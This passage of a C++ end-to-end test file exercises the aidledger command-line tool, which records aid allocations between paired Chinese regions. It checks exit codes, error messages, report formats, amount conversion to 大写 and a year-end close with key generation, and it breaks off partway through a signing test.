// End-to-end: the built aidledger binary in a temporary directory, checked by
// its output and exit codes.
#include <filesystem>
#include <fstream>
#include <sstream>
#include <thread>
#include <tuple>
#include <sys/stat.h>
#include <random>
#include <regex>
#include <map>
#include <set>
#include <string>
#include <vector>

#include "absl/strings/match.h"
#include "absl/strings/str_cat.h"
#include "google/protobuf/util/json_util.h"
#include "aidledger/v1/projections.pb.h"
#include "absl/strings/str_join.h"
#include "absl/strings/str_split.h"
#include "absl/strings/strip.h"
#include "tests/cli/run.h"
#include "base/limits.h"
#include "base/sha256.h"
#include "ledger/store/codec.h"
#include "ledger/store/store.h"
#include "ledger/ledger.h"
#include "tests/testing/rocksdb_edit.h"
#include "tests/testing/testing.h"

namespace aidledger {
namespace {

using testing::RunAidledger;
using testing::RunResult;
using testing::IsOk;

class CliTest : public ::testing::Test {
 protected:
  RunResult Run(std::vector<std::string> args) {
    args.insert(args.begin(), {"--db", db_});
    return RunAidledger(args, dir_.path(), {"AIDLEDGER_ACTOR=clerk"});
  }
  void Init() { ASSERT_EQ(Run({"init"}).exit_code, 0); }
  void MustRun(std::vector<std::string> args) {
    RunResult result = Run(args);
    ASSERT_EQ(result.exit_code, 0) << result.err;
  }
  void AddBasics() {
    Init();
    MustRun({"region", "add", "--code", "370000", "--name", "山东省", "--date", "2016-01-01"});
    MustRun({"region", "add", "--code", "370200", "--name", "青岛市", "--parent", "370000",
             "--date", "2016-01-01"});
    MustRun({"region", "add", "--code", "620000", "--name", "甘肃省", "--date", "2016-01-01"});
    MustRun({"region", "add", "--code", "621100", "--name", "定西市", "--parent", "620000",
             "--date", "2016-01-01"});
    MustRun({"pair", "--helper", "370200", "--recipient", "621100", "--program", "east-west",
             "--since", "2021-01-01", "--date", "2021-01-01"});
  }

  testing::TempDir dir_;
  std::string db_ = dir_.Sub("ledger");
};

TEST_F(CliTest, AppendPrintsSequenceEventIdAndHash) {
  AddBasics();
  RunResult result = Run({"allocate", "--helper", "370200", "--recipient", "621100", "--amount",
                          "9.12亿", "--date", "2021-06-01", "--event-id", "dx-2021"});
  ASSERT_EQ(result.exit_code, 0) << result.err;
  EXPECT_TRUE(std::regex_match(result.out,
                               std::regex("appended seq=6 event_id=dx-2021 hash=[0-9a-f]{64}\n")))
      << result.out;
}

TEST_F(CliTest, JsonReceiptHasTheNamedFields) {
  AddBasics();
  RunResult result = Run({"--format", "json", "sale", "--region", "621100", "--amount", "1,234.56",
                          "--event-id", "s-1", "--date", "2022-03-01"});
  ASSERT_EQ(result.exit_code, 0) << result.err;
  EXPECT_THAT(result.out, ::testing::MatchesRegex(
                              "\\{\"seq\":\"6\",\"event_id\":\"s-1\",\"hash\":\"[0-9a-f]{64}\","
                              "\"duplicate\":false\\}\n"));
  // Global options are accepted after the command too; the repeat is a duplicate.
  RunResult again = Run({"sale", "--region", "621100", "--amount", "1234.56", "--event-id", "s-1",
                         "--date", "2022-03-01", "--format", "json"});
  ASSERT_EQ(again.exit_code, 0) << again.err;
  EXPECT_THAT(again.out, ::testing::HasSubstr("\"seq\":\"6\""));
  EXPECT_THAT(again.out, ::testing::HasSubstr("\"duplicate\":true"));
}

TEST_F(CliTest, ADuplicateNamesTheExistingSequenceAndAConflictExitsThree) {
  AddBasics();
  std::vector<std::string> sale = {"sale", "--region", "621100", "--amount", "10",
                                   "--event-id", "s-1", "--date", "2022-03-01"};
  MustRun(sale);
  RunResult again = Run(sale);
  EXPECT_EQ(again.exit_code, 0);
  EXPECT_THAT(again.out, ::testing::StartsWith("duplicate seq=6 event_id=s-1"));
  sale[4] = "11";
  RunResult conflict = Run(sale);
  EXPECT_EQ(conflict.exit_code, 3);
  EXPECT_EQ(conflict.err,
            "aidledger: rejected: event_id: s-1 is already event 6 with different content "
            "[EVENT_ID_CONFLICT]\n");
}

TEST_F(CliTest, RejectionsExitThreeWithOneLineNamingTheField) {
  AddBasics();
  struct Bad {
    std::vector<std::string> args;
    std::string field;
  };
  const Bad cases[] = {
      {{"allocate", "--helper", "370200", "--recipient", "621100", "--amount", "-5"}, "amount: "},
      {{"allocate", "--helper", "370200", "--recipient", "621100", "--amount", "12.345"}, "amount: "},
      {{"allocate", "--helper", "370200", "--recipient", "621100", "--amount", "99999999999999999999"},
       "amount: "},
      {{"region", "add", "--code", "62A100", "--name", "x"}, "code: "},
      {{"region", "add", "--code", "621200", "--name", "x", "--parent", "999999"}, "parent_code: "},
      {{"disburse", "--project", "NOPE", "--amount", "1"}, "project_id: "},
      {{"sale", "--region", "621100", "--amount", "1", "--date", "2023-02-30"}, "effective_date: "},
      {{"reverse", "--target", "nope", "--reason", "x"}, "reversed_event_id: "},
  };
  for (const Bad& bad : cases) {
    RunResult result = Run(bad.args);
    EXPECT_EQ(result.exit_code, 3) << bad.args[0] << ": " << result.err;
    EXPECT_THAT(result.err, ::testing::StartsWith("aidledger: rejected: " + bad.field));
    EXPECT_EQ(std::count(result.err.begin(), result.err.end(), '\n'), 1) << result.err;
    EXPECT_EQ(result.out, "");
  }
  // Nothing was written by any of them.
  RunResult log = Run({"log", "--format", "jsonl"});
  EXPECT_EQ(std::count(log.out.begin(), log.out.end(), '\n'), 5);
}

TEST_F(CliTest, UsageErrorsExitTwo) {
  RunResult no_ledger = Run({"log"});
  EXPECT_EQ(no_ledger.exit_code, 2);
  EXPECT_THAT(no_ledger.err, ::testing::HasSubstr("aidledger init"));
  Init();
  for (std::vector<std::string> args : std::vector<std::vector<std::string>>{
           {"allocate", "--helper", "370200"},                             // missing flags
           {"pair", "--helper", "1", "--recipient", "2", "--program", "x"},  // unknown program
           {"frobnicate"},
           {"log", "--format", "csv"},
           {"log", "--from", "abc"}}) {
    RunResult result = Run(args);
    EXPECT_EQ(result.exit_code, 2) << args[0] << ": " << result.err;
    EXPECT_EQ(std::count(result.err.begin(), result.err.end(), '\n'), 1) << result.err;
  }
}

TEST_F(CliTest, HelpAndVersionWorkEverywhere) {
  RunResult version = Run({"--version"});
  EXPECT_EQ(version.exit_code, 0);
  EXPECT_THAT(version.out, ::testing::HasSubstr("aidledger 0.1.0"));
  for (std::vector<std::string> args : std::vector<std::vector<std::string>>{
           {"--help"}, {"init", "--help"}, {"region", "add", "--help"}, {"pair", "--help"},
           {"project", "add", "--help"}, {"allocate", "--help"}, {"disburse", "--help"},
           {"invest", "--help"}, {"sale", "--help"}, {"reverse", "--help"}, {"log", "--help"}}) {
    RunResult help = Run(args);
    EXPECT_EQ(help.exit_code, 0) << args[0];
    EXPECT_THAT(help.out, ::testing::HasSubstr("--")) << args[0];
  }
}

TEST_F(CliTest, LogPrintsJsonLinesWithTheChain) {
  AddBasics();
  RunResult log = Run({"log", "--format", "jsonl", "--from", "2", "--to", "3"});
  ASSERT_EQ(log.exit_code, 0) << log.err;
  std::vector<std::string> lines = absl::StrSplit(log.out, '\n', absl::SkipEmpty());
  ASSERT_EQ(lines.size(), 2u);
  EXPECT_THAT(lines[0], ::testing::HasSubstr("\"sequence\":\"2\""));
  EXPECT_THAT(lines[0], ::testing::HasSubstr(",\"seq\":\"2\",\"hash\":\""));
  EXPECT_THAT(lines[0], ::testing::HasSubstr("\"region_registered\":{\"code\":\"370200\",\"name\":\"青岛市\",\"parent_code\":\"370000\"}"));
  EXPECT_THAT(lines[0], ::testing::HasSubstr("\"effective_date\":\"2016-01-01\""));
  EXPECT_THAT(lines[0], ::testing::HasSubstr("\"actor\":\"clerk\""));
  std::smatch first_hash, second_prev;
  ASSERT_TRUE(std::regex_search(lines[0], first_hash, std::regex("\"hash\":\"([0-9a-f]{64})\"")));
  ASSERT_TRUE(std::regex_search(lines[1], second_prev, std::regex("\"prev_hash\":\"([0-9a-f]{64})\"")));
  EXPECT_EQ(first_hash[1], second_prev[1]);
  RunResult table = Run({"log"});
  EXPECT_THAT(table.out, ::testing::HasSubstr("定西市"));
  EXPECT_THAT(table.out, ::testing::HasSubstr("east-west"));
}

TEST_F(CliTest, ASecondWriterExitsFiveWithOneLine) {
  AddBasics();
  // Hold the ledger with a long-running writer: a child process that has it
  // open. The simplest holder is this test process itself via the library.
  absl::StatusOr<std::unique_ptr<Ledger>> holder = Ledger::Open(db_, {});
  ASSERT_TRUE(holder.ok()) << holder.status();
  RunResult result = Run({"sale", "--region", "621100", "--amount", "1"});
  EXPECT_EQ(result.exit_code, 5);
  EXPECT_THAT(result.err, ::testing::HasSubstr("held by another process"));
  EXPECT_EQ(std::count(result.err.begin(), result.err.end(), '\n'), 1);
  // Reads still work beside the writer.
  EXPECT_EQ(Run({"log"}).exit_code, 0);
}

TEST_F(CliTest, DbComesFromTheEnvironmentWhenNotGiven) {
  RunResult init = RunAidledger({"init"}, dir_.path(), {"AIDLEDGER_DB=" + db_});
  ASSERT_EQ(init.exit_code, 0) << init.err;
  EXPECT_THAT(init.out, ::testing::HasSubstr(db_));
  RunResult default_dir = RunAidledger({"init"}, dir_.path());
  ASSERT_EQ(default_dir.exit_code, 0) << default_dir.err;
  EXPECT_THAT(default_dir.out, ::testing::HasSubstr("./ledger-data"));
}

TEST_F(CliTest, BalancesJsonUsesTheReportFieldNames) {
  AddBasics();
  MustRun({"allocate", "--helper", "370200", "--recipient", "621100", "--amount", "9.12亿",
           "--date", "2021-06-01"});
  RunResult json = Run({"balances", "--format", "json", "--region", "620000"});
  ASSERT_EQ(json.exit_code, 0) << json.err;
  for (const char* field :
       {"\"at\":{\"seq\":\"6\",\"head_hash\":\"", "\"known_at\":\"\"", "\"as_of_date\":\"\"",
        "\"regions\":[{\"code\":\"620000\",\"name\":\"甘肃省\",\"parent_code\":\"\"",
        "\"own\":{\"allocated_fen\":\"0\"", "\"total\":{\"allocated_fen\":\"91200000000\"",
        "\"disbursed_fen\"", "\"balance_fen\":\"91200000000\"", "\"invested_fen\"",
        "\"sales_fen\"", "\"projects\""}) {
    EXPECT_THAT(json.out, ::testing::HasSubstr(field));
  }
  RunResult projects = Run({"projects", "--format", "json"});
  EXPECT_EQ(projects.exit_code, 0);
  EXPECT_THAT(projects.out, ::testing::HasSubstr("\"projects\":[]"));
  RunResult helpers = Run({"helpers", "--format", "json"});
  EXPECT_EQ(helpers.exit_code, 0);
  // In the region tree: 山东省, which gave nothing itself, holds 青岛市's
  // giving in its total.
  EXPECT_THAT(helpers.out, ::testing::HasSubstr(
      "\"helpers\":[{\"code\":\"370000\",\"name\":\"山东省\",\"allocated_fen\":\"0\""));
  EXPECT_THAT(helpers.out, ::testing::HasSubstr(
      "\"total\":{\"allocated_fen\":\"91200000000\",\"invested_fen\":\"0\",\"sales_fen\":\"0\"},"
      "\"parent_code\":\"\",\"depth\":0},{\"code\":\"370200\",\"name\":\"青岛市\","
      "\"allocated_fen\":\"91200000000\""));
  EXPECT_THAT(helpers.out, ::testing::HasSubstr("\"program\":\"EAST_WEST_COOPERATION\""));
}

TEST_F(CliTest, BalancesAtAPointAndInUnits) {
  AddBasics();
  MustRun({"allocate", "--helper", "370200", "--recipient", "621100", "--amount", "9.12亿",
           "--date", "2021-06-01"});
  // CSV: yuan with two decimals by default, fen for machines; the header
  // names the unit either way.
  RunResult before = Run({"balances", "--at-seq", "5", "--format", "csv", "--unit", "fen"});
  ASSERT_EQ(before.exit_code, 0) << before.err;
  EXPECT_THAT(before.out, ::testing::StartsWith("\xEF\xBB\xBF" "code,name,parent_code,own_allocated_fen"));
  EXPECT_THAT(before.out, ::testing::HasSubstr("621100,定西市,620000,0,0,0,0,0,0,0,0,0,0,0,0\r\n"));
  RunResult yuan = Run({"balances", "--format", "csv"});
  EXPECT_THAT(yuan.out, ::testing::StartsWith("\xEF\xBB\xBF" "code,name,parent_code,own_allocated_yuan,"
                                              "own_disbursed_yuan,own_balance_yuan"));
  EXPECT_THAT(yuan.out, ::testing::HasSubstr("621100,定西市,620000,912000000.00,0.00,912000000.00,"));
  RunResult wan = Run({"projects", "--format", "csv", "--unit", "wan"});
  EXPECT_THAT(wan.out, ::testing::HasSubstr("budget_wan,allocated_wan,disbursed_wan,invested_wan"));
  RunResult helpers_yi = Run({"helpers", "--format", "csv", "--unit", "yi"});
  EXPECT_THAT(helpers_yi.out,
              ::testing::HasSubstr("code,name,parent_code,program,allocated_yi,invested_yi,sales_yi\r\n"
                                   "370000,山东省,,total,9.12,0.00,0.00\r\n"
                                   "370000,山东省,,own,0.00,0.00,0.00\r\n"
                                   "370200,青岛市,370000,total,9.12,0.00,0.00\r\n"
                                   "370200,青岛市,370000,own,9.12,0.00,0.00\r\n"
                                   "370200,青岛市,370000,EAST_WEST_COOPERATION,9.12,0.00,0.00\r\n"));
  RunResult after = Run({"balances", "--region", "621100", "--unit", "yi"});
  ASSERT_EQ(after.exit_code, 0) << after.err;
  EXPECT_THAT(after.out, ::testing::HasSubstr("定西市"));
  EXPECT_THAT(after.out, ::testing::HasSubstr("9.12"));
  EXPECT_THAT(after.out, ::testing::HasSubstr("亿元"));
  RunResult as_of = Run({"balances", "--as-of", "2021-05-31", "--format", "csv"});
  EXPECT_THAT(as_of.out, ::testing::HasSubstr("621100,定西市,620000,0.00,"));
}

// A report folds only the projections it reads; filtered by region, the
// projects report reads the region tree as well.
TEST_F(CliTest, ProjectsFilteredByRegionAtTheHeadAndAtAPoint) {
  AddBasics();
  MustRun({"project", "add", "--project", "DX-1", "--region", "621100", "--name", "定西一号",
           "--category", "health", "--date", "2021-02-01"});
  MustRun({"project", "add", "--project", "QD-1", "--region", "370200", "--name", "青岛一号",
           "--category", "education", "--date", "2021-02-01"});
  MustRun({"project", "add", "--project", "DX-2", "--region", "621100", "--name", "定西二号",
           "--category", "health", "--date", "2021-03-01"});
  for (const std::vector<std::string>& point :
       {std::vector<std::string>{}, {"--at-seq", "7"}, {"--as-of", "2021-02-28"}}) {
    std::vector<std::string> args = {"projects", "--region", "620000", "--format", "csv"};
    args.insert(args.end(), point.begin(), point.end());
    RunResult result = Run(args);
    ASSERT_EQ(result.exit_code, 0) << result.err;
    EXPECT_THAT(result.out, ::testing::HasSubstr("DX-1,621100,定西一号"));
    EXPECT_THAT(result.out, ::testing::Not(::testing::HasSubstr("QD-1")));
    EXPECT_EQ(absl::StrContains(result.out, "DX-2"), point.empty()) << result.out;
  }
  RunResult all = Run({"projects", "--format", "csv", "--at-seq", "7"});
  ASSERT_EQ(all.exit_code, 0) << all.err;
  EXPECT_THAT(all.out, ::testing::HasSubstr("QD-1,370200,青岛一号"));
  RunResult unknown = Run({"projects", "--region", "999999"});
  EXPECT_EQ(unknown.exit_code, 2);
  EXPECT_THAT(unknown.err, ::testing::HasSubstr("region 999999 is not registered"));
}

// Issue 21: a project's name, category or budget corrected from a date on,
// with its reason; a view as of an earlier date shows it as it was.
TEST_F(CliTest, AProjectIsAmendedFromADateOnWithItsReason) {
  AddBasics();
  MustRun({"project", "add", "--project", "DX-1", "--region", "621100", "--name", "定西一号",
           "--category", "health", "--budget", "100万", "--date", "2021-02-01"});
  RunResult amended = Run({"project", "amend", "--project", "DX-1", "--name", "定西冷链物流",
                           "--budget", "120万", "--reason", "名称录错，预算按批复调整",
                           "--date", "2022-01-01"});
  ASSERT_EQ(amended.exit_code, 0) << amended.err;
  EXPECT_THAT(Run({"projects", "--format", "csv"}).out,
              ::testing::HasSubstr("DX-1,621100,定西冷链物流,health,1200000.00,"));
  EXPECT_THAT(Run({"projects", "--format", "csv", "--as-of", "2021-12-31"}).out,
              ::testing::HasSubstr("DX-1,621100,定西一号,health,1000000.00,"));
  EXPECT_THAT(Run({"log"}).out,
              ::testing::HasSubstr("amends DX-1: name 定西冷链物流 budget 1,200,000.00 yuan: "
                                   "名称录错，预算按批复调整"));
  RunResult same = Run({"project", "amend", "--project", "DX-1", "--name", "定西冷链物流",
                        "--reason", "x", "--date", "2022-02-01"});
  EXPECT_EQ(same.exit_code, 3);
  EXPECT_THAT(same.err, ::testing::HasSubstr("[NOTHING_AMENDED]"));
  RunResult no_reason = Run({"project", "amend", "--project", "DX-1", "--name", "y"});
  EXPECT_EQ(no_reason.exit_code, 2);
  // A region renamed, from a date on.
  RunResult renamed = Run({"region", "amend", "--code", "621100", "--name", "定西市（更正）",
                           "--reason", "名称录错", "--date", "2022-01-01"});
  ASSERT_EQ(renamed.exit_code, 0) << renamed.err;
  EXPECT_THAT(Run({"balances", "--format", "csv"}).out,
              ::testing::HasSubstr("621100,定西市（更正）,620000,"));
  EXPECT_THAT(Run({"balances", "--format", "csv", "--as-of", "2021-12-31"}).out,
              ::testing::HasSubstr("621100,定西市,620000,"));
  // The former names, on request (--name-history), as of any point.
  EXPECT_THAT(Run({"projects", "--format", "csv", "--name-history"}).out,
              ::testing::HasSubstr(",former_names\r\nDX-1,621100,定西冷链物流,health,1200000.00,"
                                   "0.00,0.00,0.00,定西一号 until 2022-01-01\r\n"));
  EXPECT_THAT(Run({"region", "list", "--name-history"}).out,
              ::testing::HasSubstr("定西市（更正） (formerly 定西市 until 2022-01-01)"));
  EXPECT_THAT(Run({"balances", "--name-history"}).out,
              ::testing::HasSubstr("定西市（更正） (formerly 定西市 until 2022-01-01)"));
  EXPECT_THAT(Run({"balances"}).out, ::testing::Not(::testing::HasSubstr("formerly")));
  EXPECT_THAT(Run({"project", "list", "--name-history", "--as-of", "2021-12-31"}).out,
              ::testing::Not(::testing::HasSubstr("formerly")));
  // A region filed under the wrong parent moves under the right one.
  MustRun({"region", "add", "--code", "621125", "--name", "渭源县", "--parent", "620000",
           "--date", "2016-01-01"});
  RunResult moved = Run({"region", "amend", "--code", "621125", "--parent", "621100",
                         "--reason", "上级录错", "--date", "2022-01-01"});
  ASSERT_EQ(moved.exit_code, 0) << moved.err;
  EXPECT_THAT(Run({"region", "list", "--format", "csv"}).out,
              ::testing::HasSubstr("621125,渭源县,621100,2016-01-01,2022-01-01"));
  EXPECT_THAT(Run({"log"}).out, ::testing::HasSubstr("moves 621125 under 621100: 上级录错"));
  EXPECT_THAT(Run({"replay", "--region", "621100", "--format", "csv"}).out,
              ::testing::HasSubstr("上级录错"));
  EXPECT_EQ(Run({"verify"}).exit_code, 0);
}

// Issue 21: a pairing ends (pair end); pair itself still establishes and
// still requires its flags.
TEST_F(CliTest, APairingEndsAndAdmitsNoAllocationAfterwards) {
  AddBasics();
  RunResult missing = Run({"pair", "--recipient", "621100", "--program", "east-west"});
  EXPECT_EQ(missing.exit_code, 2);
  EXPECT_THAT(missing.err, ::testing::HasSubstr("--helper is required"));
  RunResult ended = Run({"pair", "end", "--helper", "370200", "--recipient", "621100",
                         "--reason", "协议期满", "--date", "2025-12-31"});
  ASSERT_EQ(ended.exit_code, 0) << ended.err;
  EXPECT_THAT(Run({"log"}).out,
              ::testing::HasSubstr("ends the pairing of 370200 with 621100: 协议期满"));
  RunResult after = Run({"allocate", "--helper", "370200", "--recipient", "621100", "--amount",
                         "1", "--date", "2026-01-01"});
  EXPECT_EQ(after.exit_code, 3);
  EXPECT_THAT(after.err, ::testing::HasSubstr("[PAIRING_ENDED]"));
  EXPECT_EQ(Run({"allocate", "--helper", "370200", "--recipient", "621100", "--amount", "1",
                 "--date", "2025-12-31"})
                .exit_code,
            0);
  EXPECT_EQ(Run({"pair", "end", "--helper", "370200", "--recipient", "621100"}).exit_code, 2);
  EXPECT_EQ(Run({"verify"}).exit_code, 0);
}

// Issue 22: indicators and targets are appended like any event, and
// `progress` reports them per pairing: JSON with int64 values as strings and
// the completion rate to one decimal, CSV, and the points of the log.
// Issue 24: `aidledger daxie` prints the 大写 of any amount the ledger
// accepts, and refuses (exit 3, the reason named) one it would not.
TEST_F(CliTest, DaxiePrintsTheUppercaseOfAnAmountTheLedgerAccepts) {
  RunResult bill = Run({"daxie", "1,409.50"});
  EXPECT_EQ(bill.exit_code, 0) << bill.err;
  EXPECT_EQ(bill.out, "壹仟肆佰零玖元伍角整\n");
  EXPECT_EQ(Run({"daxie", "9.12亿"}).out, "玖亿壹仟贰佰万元整\n");
  EXPECT_EQ(Run({"daxie", "拾万柒仟元伍角叁分"}).out, "壹拾万柒仟元零伍角叁分\n");
  EXPECT_EQ(Run({"daxie", "10000000000000"}).out, "壹拾万亿元整\n");
  for (const char* refused : {"0", "10000000000000.01", "1.234", "壹仟零零玖元整"}) {
    RunResult r = Run({"daxie", refused});
    EXPECT_EQ(r.exit_code, 3) << refused;
    EXPECT_THAT(r.err, ::testing::HasSubstr("AMOUNT_INVALID")) << refused;
    EXPECT_EQ(r.out, "") << refused;
  }
}

// Issue 24: `aidledger report regions` files a period report in the
// Chinese layout, in every format, from the point its flags name; bad
// flags are usage errors (exit 2) that write nothing.
TEST_F(CliTest, ReportRegionsFilesAPeriodReportInEveryFormat) {
  AddBasics();
  MustRun({"allocate", "--helper", "370200", "--recipient", "621100", "--amount", "1126742.50",
           "--date", "2022-03-31"});
  MustRun({"allocate", "--helper", "370200", "--recipient", "621100", "--amount", "1409.50",
           "--date", "2022-04-01"});
  const std::vector<std::string> quarters = {"report", "regions", "--period", "quarter",
                                             "--from", "2022-01", "--to", "2022-12",
                                             "--metric", "allocated", "--unit", "wan",
                                             "--unit-name", "青岛市财政局"};
  RunResult table = Run(quarters);
  ASSERT_EQ(table.exit_code, 0) << table.err;
  EXPECT_THAT(table.out, ::testing::HasSubstr("编制单位：青岛市财政局　　报告期：2022年度　　单位：万元"));
  EXPECT_THAT(table.out, ::testing::HasSubstr("2022年第一季度 拨付"));
  EXPECT_THAT(table.out, ::testing::HasSubstr(
                             "拨付合计（大写）：人民币壹佰壹拾贰万捌仟壹佰伍拾贰元整"));
  // Q1 112.674250 万, Q2 0.140950 万: 112.68 and 0.14 make the 112.82 printed.
  EXPECT_TRUE(std::regex_search(table.out, std::regex(R"(定西市 +112\.68 +0\.14 +0\.00 +0\.00 +112\.82)")))
      << table.out;

  std::vector<std::string> json_args = quarters;
  json_args.insert(json_args.begin(), {"--format", "json"});
  RunResult json = Run(json_args);
  ASSERT_EQ(json.exit_code, 0) << json.err;
  EXPECT_THAT(json.out, ::testing::HasSubstr(R"("periods_fen":["112674250","140950","0","0"])"));

  std::vector<std::string> before = quarters;
  before.insert(before.end(), {"--at-seq", "6"});  // before the second allocation
  EXPECT_TRUE(std::regex_search(Run(before).out, std::regex(R"(定西市 +112\.67 +0\.00)")));

  std::vector<std::string> xlsx = quarters;
  xlsx.insert(xlsx.begin(), {"--format", "xlsx"});
  RunResult unnamed = Run(xlsx);
  EXPECT_EQ(unnamed.exit_code, 2);
  EXPECT_THAT(unnamed.err, ::testing::HasSubstr("--out FILE"));
  xlsx.insert(xlsx.end(), {"--out", dir_.Sub("report.xlsx")});
  ASSERT_EQ(Run(xlsx).exit_code, 0);
  std::ifstream book(dir_.Sub("report.xlsx"), std::ios::binary);
  std::string magic(2, '\0');
  book.read(magic.data(), 2);
  EXPECT_EQ(magic, "PK");  // a zip archive: the workbook is read back in app_period_report_test

  std::vector<std::string> html = quarters;
  html.insert(html.begin(), {"--format", "html"});
  RunResult page = Run(html);
  ASSERT_EQ(page.exit_code, 0) << page.err;
  EXPECT_THAT(page.out, ::testing::HasSubstr("@page{size:A4 landscape"));

  for (const std::vector<std::string>& bad :
       std::vector<std::vector<std::string>>{
           {"report", "regions", "--period", "quarter", "--from", "2022-02", "--to", "2022-12"},
           {"report", "regions", "--from", "2022-01"},
           {"report", "regions", "--from", "2022-01", "--to", "2022-12", "--region", "999999"},
           {"report", "regions", "--from", "2022-01", "--to", "2022-12", "--compare", "budget"},
           {"report", "regions", "--from", "2022-01", "--to", "2022-12", "--unit", "fen"}}) {
    RunResult refused = Run(bad);
    EXPECT_EQ(refused.exit_code, 2) << absl::StrJoin(bad, " ") << ": " << refused.err;
    EXPECT_EQ(refused.out, "") << absl::StrJoin(bad, " ");
  }
}

// Issue 24: a balances table in 万元 or 亿元 has the unit's fixed decimals
// and adds up as printed (舍位平衡 down the region tree): two cities of 50
// yuan each make a province of 100 yuan, 0.01 万元, so one city prints 0.01
// and the other 0.00 (each rounded alone, both would print 0.01).
TEST_F(CliTest, BalancesInWanHaveFixedDecimalsAndAddUp) {
  AddBasics();
  MustRun({"region", "add", "--code", "621200", "--name", "陇南市", "--parent", "620000",
           "--date", "2016-01-01"});
  MustRun({"sale", "--region", "621100", "--amount", "50", "--date", "2022-05-01"});
  MustRun({"sale", "--region", "621200", "--amount", "50", "--date", "2022-05-01"});
  auto sales = [&](const std::string& unit) {
    RunResult table = Run({"balances", "--region", "620000", "--unit", unit});
    EXPECT_EQ(table.exit_code, 0) << table.err;
    std::map<std::string, std::string> by_code;
    for (absl::string_view line : absl::StrSplit(table.out, '\n')) {
      std::vector<std::string> fields = absl::StrSplit(line, ' ', absl::SkipEmpty());
      if (fields.size() == 8 && fields[0] != "CODE") by_code[fields[0]] = fields[6];
    }
    return by_code;
  };
  std::map<std::string, std::string> wan = sales("wan");
  EXPECT_EQ(wan["620000"], "0.01");
  EXPECT_EQ(std::set<std::string>({wan["621100"], wan["621200"]}),
            std::set<std::string>({"0.01", "0.00"}));
  std::map<std::string, std::string> yi = sales("yi");
  EXPECT_EQ(yi["620000"], "0.0000");  // four decimals, however small
  EXPECT_EQ(sales("yuan")["621100"], "50.00");
}

// Issue 24: keygen writes a private key only its owner may read and a
// one-line public key, and never overwrites either (exit 2, nothing changed).
TEST_F(CliTest, KeygenWritesTwoFilesOnceAndNeverOverwrites) {
  const std::string keys = dir_.Sub("keys");
  std::filesystem::create_directory(keys);
  RunResult made = Run({"keygen", "--name", "qingdao-finance", "--out", keys});
  ASSERT_EQ(made.exit_code, 0) << made.err;
  const std::string key = keys + "/qingdao-finance.key", pub = keys + "/qingdao-finance.pub";
  EXPECT_EQ(std::filesystem::status(key).permissions() & std::filesystem::perms::all,
            std::filesystem::perms::owner_read | std::filesystem::perms::owner_write);
  std::ifstream pub_file(pub);
  std::string line;
  std::getline(pub_file, line);
  EXPECT_TRUE(std::regex_match(line, std::regex(R"(qingdao-finance ed25519 [A-Za-z0-9+/]{43}=)")))
      << line;
  std::stringstream before;
  before << std::ifstream(key).rdbuf();
  RunResult again = Run({"keygen", "--name", "qingdao-finance", "--out", keys});
  EXPECT_EQ(again.exit_code, 2);
  EXPECT_THAT(again.err, ::testing::HasSubstr("exists"));
  std::stringstream after;
  after << std::ifstream(key).rdbuf();
  EXPECT_EQ(after.str(), before.str());
  EXPECT_EQ(Run({"keygen", "--name", "../escape", "--out", keys}).exit_code, 2);
}

// The year-end close end to end: close, a figure refused and then admitted
// as an adjustment, two signers and an impostor, verify-close's exit codes,
// and an export that restores with its close and signatures.
TEST_F(CliTest, AClosedYearTakesOnlyAdjustmentsAndItsSignaturesAreChecked) {
  AddBasics();
  MustRun({"allocate", "--helper", "370200", "--recipient", "621100", "--amount", "1000",
           "--date", "2023-05-01"});
  RunResult early = Run({"close", "--year", "2023", "--date", "2023-12-31"});
  EXPECT_EQ(early.exit_code, 2) << "close takes no --date: it is dated the day it is made";
  RunResult closed = Run({"close", "--year", "2023", "--reason", "2023年度决算"});
  ASSERT_EQ(closed.exit_code, 0) << closed.err;
  EXPECT_THAT(closed.out, ::testing::HasSubstr("closed 2023: digest seq=6 head_hash="));
  EXPECT_THAT(closed.out, ::testing::HasSubstr("appended seq=7"));
  const std::vector<std::string> late = {"allocate", "--helper", "370200", "--recipient",
                                         "621100", "--amount", "20", "--date", "2023-11-30"};
  RunResult refused = Run(late);
  EXPECT_EQ(refused.exit_code, 3);
  EXPECT_THAT(refused.err, ::testing::HasSubstr("PERIOD_CLOSED"));
  std::vector<std::string> adjusting = late;
  adjusting.insert(adjusting.end(), {"--adjusts-closed", "2023", "--reason", "漏记一笔"});
  MustRun(adjusting);
  RunResult log = Run({"log"});
  EXPECT_THAT(log.out, ::testing::HasSubstr("[adjusts closed 2023: 漏记一笔]"));
  // The year as filed at the close, and as it stands now with the adjustment.
  const std::vector<std::string> year_report = {"--format", "csv", "report", "regions",
                                                "--period", "year", "--from", "2023-01",
                                                "--to", "2023-12", "--metric", "allocated"};
  std::vector<std::string> as_closed = year_report;
  as_closed.push_back("--as-closed");
  RunResult sealed = Run(as_closed);
  ASSERT_EQ(sealed.exit_code, 0) << sealed.err;
  EXPECT_THAT(sealed.out, ::testing::HasSubstr("1000.00"));
  EXPECT_THAT(sealed.out, ::testing::Not(::testing::HasSubstr("1020.00")));
  EXPECT_THAT(Run(year_report).out, ::testing::HasSubstr("1020.00"));
  // Every report of the year lists its adjustments; the sealed one has none.
  std::vector<std::string> table = year_report;
  table[1] = "table";
  RunResult now = Run(table);
  ASSERT_EQ(now.exit_code, 0) << now.err;
  EXPECT_THAT(now.out, ::testing::HasSubstr("以前年度调整（结账后录入，已计入上表）："));
  EXPECT_THAT(now.out, ::testing::HasSubstr("2023年度　seq 8　2023-11-30　"));
  EXPECT_THAT(now.out, ::testing::HasSubstr("原因：漏记一笔"));
  table.push_back("--as-closed");
  EXPECT_THAT(Run(table).out, ::testing::Not(::testing::HasSubstr("以前年度调整")));
  std::vector<std::string> json = year_report;
  json[1] = "json";
  EXPECT_THAT(Run(json).out,
              ::testing::HasSubstr("\"adjustments\":[{\"year\":2023,\"sequence\":\"8\","
                                   "\"effective_date\":\"2023-11-30\",\"type\":\"allocation\""));
  std::vector<std::string> two_years = as_closed;
  two_years[6] = "2022-01";
  EXPECT_EQ(Run(two_years).exit_code, 2);
  std::vector<std::string> with_point = as_closed;
  with_point.insert(with_point.end(), {"--at-seq", "3"});
  EXPECT_EQ(Run(with_point).exit_code, 2);

  const std::string keys = dir_.Sub("keys"), others = dir_.Sub("others");
  std::filesystem::create_directory(keys);
  std::filesystem::create_directory(others);
  MustRun({"keygen", "--name", "qingdao-finance", "--out", keys});
  MustRun({"keygen", "--name", "dingxi-finance", "--out", keys});
  MustRun({"keygen", "--name", "dingxi-finance", "--out", others});
  const std::string trusted = dir_.Sub("trusted.keys");
